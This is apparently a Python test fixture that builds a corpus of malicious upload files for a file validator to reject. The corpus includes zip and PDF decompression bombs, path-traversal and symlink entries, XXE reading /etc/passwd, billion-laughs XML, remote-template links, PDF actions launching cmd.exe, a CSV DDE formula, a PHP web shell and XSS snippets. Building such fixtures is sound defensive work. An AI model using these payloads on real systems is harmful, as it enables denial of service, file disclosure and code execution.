"""Files that must not get in, made here and in memory: bombs, files of two kinds, commands that run by themselves, names that lie."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Dictionary, Name

from tests.files import honest

MB = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
LINKS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
Made = dict[str, tuple[str, Callable[[], bytes]]]


def again(original: bytes, changed: dict[str, bytes], *, without: str = "") -> bytes:
    """A zip with some parts changed, added, or left out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != without:
                new.writestr(name, changed.pop(name, None) or old.read(name))
        for name, data in changed.items():
            new.writestr(name, data)
    return out.getvalue()


def word(**parts: bytes) -> bytes:
    return again(honest.word(), {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()})


def word_part(name: str, data: bytes) -> bytes:
    return again(honest.word(), {name: data})


def sheet_part(name: str, data: bytes) -> bytes:
    return again(honest.sheet(), {name: data})


def linked(kind: str, target: str, *, part: str = "word/_rels/footer9.xml.rels") -> bytes:
    link = f'<Relationship Id="r1" Type="{OFFICE}{kind}" Target="{target}" TargetMode="External"/>'
    return word_part(part, LINKS.format(link).encode())


def zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in entries.items():
            made.writestr(name, data)
    return out.getvalue()


def many_zeros(count: int) -> bytes:
    """A part of `count` zero bytes inside a document, some thousand times smaller packed."""
    return word_part("word/media/image9.bmp", bytes(count))


def bomb_of_overlaps(parts: int = 200) -> bytes:
    """One packed kernel of 21 MB that every line of the list points at: 42 kB that would unpack to 4 GB."""
    out = io.BytesIO(zip_of({"k": bytes(21 * MB)}))
    with zipfile.ZipFile(out, "a") as made:
        kernel = made.infolist()[0]
        for number in range(parts):
            entry = zipfile.ZipInfo(f"word/{number}.xml")
            for fact in ("file_size", "compress_size", "CRC", "compress_type", "header_offset"):
                setattr(entry, fact, getattr(kernel, fact))
            made.filelist.append(entry)
        made._didModify = True  # type: ignore[attr-defined]
    return out.getvalue()


def lying_size() -> bytes:
    """The list says ten bytes, the part holds 50 MB."""
    data = bytearray(many_zeros(50 * MB))
    for sign, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.rfind(b"word/media/image9.bmp") if sign == b"PK\x01\x02" else data.find(b"word/media/image9.bmp")
        start = data.rfind(sign, 0, at)
        data[start + place : start + place + 4] = struct.pack("<I", 10)
    return bytes(data)


def link_to_system() -> bytes:
    out = io.BytesIO(honest.word())
    entry = zipfile.ZipInfo("word/media/x.png")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(entry, "/etc/passwd")
    return out.getvalue()


def twice_the_same() -> bytes:
    data = bytearray(again(honest.word(), {"word/document.xmX": b"<a/>"}))
    return bytes(data.replace(b"word/document.xmX", b"word/document.xml"))


def needs_password() -> bytes:
    data = bytearray(honest.word())
    start = data.find(b"PK\x01\x02")
    while start >= 0:
        data[start + 8] |= 1
        start = data.find(b"PK\x01\x02", start + 1)
    return bytes(data)


def macro_kind(original: bytes, plain: bytes, macro: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(original)) as old:
        kinds = old.read("[Content_Types].xml")
    return again(original, {"[Content_Types].xml": kinds.replace(plain, macro)})


BILLION = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "ha">' + b"".join(
    b'<!ENTITY x%d "%s">' % (step, (b"&x%d;" % (step - 1) if step else b"&x;") * 10) for step in range(9)
)
BILLION += b"]><a>&x8;</a>"
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
DEEP = b"<a>" * 2_000_000


def pdf_with(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    paper = pikepdf.new()
    paper.add_blank_page()
    change(paper)
    return honest.saved_pdf(paper, **options)


def opens(**action: object) -> Callable[[pikepdf.Pdf], None]:
    def change(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = Dictionary({f"/{key}": value for key, value in action.items()})

    return change


def annotated(kind: str, **action: object) -> Callable[[pikepdf.Pdf], None]:
    """An action that stands directly in an annotation of a page."""

    def change(paper: pikepdf.Pdf) -> None:
        act = Dictionary({f"/{key}": value for key, value in action.items()})
        paper.pages[0].Annots = pikepdf.Array([Dictionary(Type=Name.Annot, Subtype=Name(kind), Rect=[0, 0, 9, 9], A=act)])

    return change


def attached(paper: pikepdf.Pdf) -> None:
    paper.attachments["bang.exe"] = b"MZ" + bytes(100)


def formed(paper: pikepdf.Pdf) -> None:
    paper.Root.AcroForm = Dictionary(XFA=paper.make_stream(b"<xdp/>"), Fields=[])


def spelled_otherwise() -> bytes:
    return pdf_with(opens(S=Name.JavaScript, JS="app.alert(1)")).replace(b"/JavaScript", b"/Java#53cript")


def pdf_bomb() -> bytes:
    """An object stream that unpacks to 1.3 GB; whoever resolves its object must unpack it all."""
    packer, packed = zlib.compressobj(6), b""
    packed += packer.compress(b"3 0 " + b"<< >> ")
    for _ in range(1280):
        packed += packer.compress(b" " * MB)
    packed += packer.flush()
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 3 0 R >>\nendobj\n"
    at = len(body)
    body += b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    body += packed + b"\nendstream\nendobj\n"
    rows = [(0, 0, 65535), (1, 9, 0), (0, 0, 0), (2, 4, 0), (1, at, 0), (1, len(body), 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    start = len(body)
    body += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    return body + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def png_claiming(wide: int, high: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(4))) + chunk(b"IEND", b"")


def jpg_claiming(wide: int, high: int) -> bytes:
    data = bytearray(honest.picture())
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", high, wide)
    return bytes(data)


def _words() -> Made:
    main, macro = b"wordprocessingml.document.main+xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"
    whole = b"application/vnd.openxmlformats-officedocument." + main
    return {
        "zip bomb, 42 kB to 4 GB": ("a.docx", bomb_of_overlaps),
        "one huge part": ("a.docx", lambda: many_zeros(300 * MB)),
        "ratio over 100": ("a.docx", lambda: many_zeros(60 * MB)),
        "size in the list lies": ("a.docx", lying_size),
        "3,000 entries": ("a.docx", lambda: again(honest.word(), {f"word/{number}.txt": b"" for number in range(3000)})),
        "zip inside": ("a.docx", lambda: word_part("word/media/x.zip", zip_of({"a": bytes(10)}))),
        "zip inside an embedded sheet": (
            "a.docx",
            lambda: word_part("word/embeddings/x.xlsx", zip_of({"xl/b.zip": zip_of({"a": bytes(10)})})),
        ),
        "bomb as an embedded sheet": ("a.docx", lambda: word_part("word/embeddings/x.xlsx", zip_of({"xl/b.bin": bytes(190 * MB)}))),
        "entry of the root": ("a.docx", lambda: word_part("/etc/cron.d/x", b"x")),
        "entry climbs": ("a.docx", lambda: word_part("word/../../../x.sh", b"x")),
        "entry climbs by backslashes": ("a.docx", lambda: word_part("word\\..\\..\\x.bat", b"x")),
        "entry of a drive": ("a.docx", lambda: word_part("C:/x.dll", b"x")),
        "symbolic link": ("a.docx", link_to_system),
        "two parts of one name": ("a.docx", twice_the_same),
        "macros": ("a.docx", lambda: word_part("word/vbaProject.bin", OLE)),
        "macros, other letters": ("a.docx", lambda: word_part("word/VBAPROJECT.BIN", OLE)),
        "macro kind": ("a.docx", lambda: macro_kind(honest.word(), whole, macro)),
        "ActiveX": ("a.docx", lambda: word_part("word/activeX/activeX1.bin", OLE)),
        "program inside": ("a.docx", lambda: word_part("word/media/x.png", b"MZ" + bytes(200))),
        "packed file inside": ("a.docx", lambda: word_part("word/embeddings/oleObject1.bin", OLE + "\x01Ole10Native".encode("utf-16-le"))),
        "XXE": ("a.docx", lambda: word_part("word/document.xml", XXE)),
        "XXE in UTF-16": (
            "a.docx",
            lambda: word_part("customXml/item9.xml", XXE.decode().replace("?>", ' encoding="utf-16"?>').encode("utf-16")),
        ),
        "DTD from elsewhere": ("a.docx", lambda: word_part("word/settings.xml", b'<!DOCTYPE a SYSTEM "http://vidu.example/a.dtd"><a/>')),
        "template from elsewhere": ("a.docx", lambda: linked("attachedTemplate", "https://vidu.example/a.dotm")),
        "template of a neighbour": ("a.docx", lambda: linked("attachedTemplate", "file://vidu.example/c/a.dotm")),
        "picture from elsewhere": ("a.docx", lambda: linked("image", "http://vidu.example/x.png")),
        "object from elsewhere": ("a.docx", lambda: linked("oleObject", "mhtml:http://vidu.example/x!x")),
        "password": ("a.docx", needs_password),
        "old Word, new suffix": ("a.docx", lambda: OLE),
        "cut off": ("a.docx", lambda: honest.word()[:-200]),
        "broken in the middle": ("a.docx", lambda: honest.word().replace(b"PK\x01\x02", b"PK\x01\x03", 1)),
        "no document inside": ("a.docx", lambda: again(honest.word(), {}, without="word/document.xml")),
        "plain zip": ("a.docx", lambda: zip_of({"a.txt": b"a"})),
        "web page": ("a.docx", lambda: b"<html><script>alert(1)</script></html>"),
        "XML never closed": ("a.docx", lambda: word_part("word/document.xml", b"<a>")),
        "XML two million deep": ("a.docx", lambda: word_part("word/document.xml", DEEP)),
        "40 MB of XML": ("a.docx", lambda: word_part("word/styles.xml", b"<a>" + bytes(range(97, 123)) * 1_600_000 + b"</a>")),
    }


def _sheets() -> Made:
    return {
        "billion laughs": ("a.xlsx", lambda: sheet_part("xl/sharedStrings.xml", BILLION)),
        "XXE in a sheet": ("a.xlsx", lambda: sheet_part("xl/worksheets/sheet1.xml", XXE)),
        "macros in a sheet": ("a.xlsx", lambda: sheet_part("xl/vbaProject.bin", OLE)),
        "other workbook": (
            "a.xlsx",
            lambda: sheet_part(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                LINKS.format(
                    f'<Relationship Id="r" Type="{OFFICE}externalLinkPath" Target="file:///D:/so.xlsx" TargetMode="External"/>'
                ).encode(),
            ),
        ),
        "a Word paper called xlsx": ("a.xlsx", honest.word),
        "10,000 × zeros": ("a.xlsx", lambda: sheet_part("xl/worksheets/sheet2.xml", b"<a>" + b"0" * (150 * MB) + b"</a>")),
        "CSV": ("a.xlsx", lambda: b"=cmd|'/c calc'!A1,1,2"),
    }


def _papers() -> Made:
    return {
        "opens a program": ("a.pdf", lambda: pdf_with(opens(S=Name.Launch, F="cmd.exe"))),
        "runs a script": ("a.pdf", lambda: pdf_with(opens(S=Name.JavaScript, JS="app.alert(1)"))),
        "script, other spelling": ("a.pdf", spelled_otherwise),
        "script in packed objects": (
            "a.pdf",
            lambda: pdf_with(opens(S=Name.JavaScript, JS="x"), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        ),
        "link opens a program": ("a.pdf", lambda: pdf_with(annotated("/Link", S=Name.Launch, F="x.exe"))),
        "sends a form": ("a.pdf", lambda: pdf_with(annotated("/Screen", S=Name.SubmitForm, F="http://vidu.example"))),
        "file inside": ("a.pdf", lambda: pdf_with(attached)),
        "film": ("a.pdf", lambda: pdf_with(annotated("/RichMedia", S=Name.GoTo))),
        "XFA form": ("a.pdf", lambda: pdf_with(formed)),
        "password on a PDF": ("a.pdf", lambda: pdf_with(lambda _: None, encryption=pikepdf.Encryption(owner="a", user="b"))),
        "object stream of 1.3 GB": ("a.pdf", pdf_bomb),
        "page in front of a PDF": ("a.pdf", lambda: b"<html><script>x</script></html>" + honest.pdf()),
        "PDF without pages": ("a.pdf", lambda: b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"),
        "only the first line": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(500)),
        "program called pdf": ("a.pdf", lambda: b"MZ" + bytes(500)),
    }


def _pictures() -> Made:
    script = b"<script>alert(document.cookie)</script>"
    return {
        "60,000 × 60,000": ("a.png", lambda: png_claiming(60_000, 60_000)),
        "60,000 × 60,000 as jpg": ("a.jpg", lambda: jpg_claiming(60_000, 60_000)),
        "jpg and web page": ("a.jpg", lambda: honest.picture() + script),
        "jpg and zip": ("a.jpg", lambda: honest.picture() + zip_of({"a.exe": b"MZ"})),
        "script in the remark": ("a.jpg", lambda: b"\xff\xd8\xff\xfe" + struct.pack(">H", len(script) + 2) + script + honest.picture()[2:]),
        "png with a tail": ("a.png", lambda: honest.picture("PNG") + b"x" * 100),
        "png cut off": ("a.png", lambda: honest.picture("PNG")[:-300]),
        "jpg cut off": ("a.jpg", lambda: honest.picture()[:3000]),
        "png called jpg": ("a.jpg", lambda: honest.picture("PNG")),
        "svg called png": ("a.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        "gif called jpg": ("a.jpg", lambda: honest.picture("GIF")),
        "php called jpg": ("a.jpg", lambda: b"<?php system($_GET[0]); ?>"),
    }


def _names() -> Made:
    names = [
        "a.svg",
        "a.exe",
        "a.pdf.exe",
        "a.docm",
        "a.xls",
        "a.doc",
        "a.html",
        "a.zip",
        "baocao\u202exfdp.exe",
        "a.pdf\x00.exe",
        "a",
        ".pdf",
    ]
    return {f"name {name!r}": (name, honest.pdf) for name in names} | {
        "empty": ("a.pdf", bytes),
        "21 MB": ("a.pdf", lambda: bytes(21 * MB)),
    }


def corpus() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """(what it tries, name, maker)"""
    for made in (_words(), _sheets(), _papers(), _pictures(), _names()):
        yield from ((what, name, maker) for what, (name, maker) in made.items())
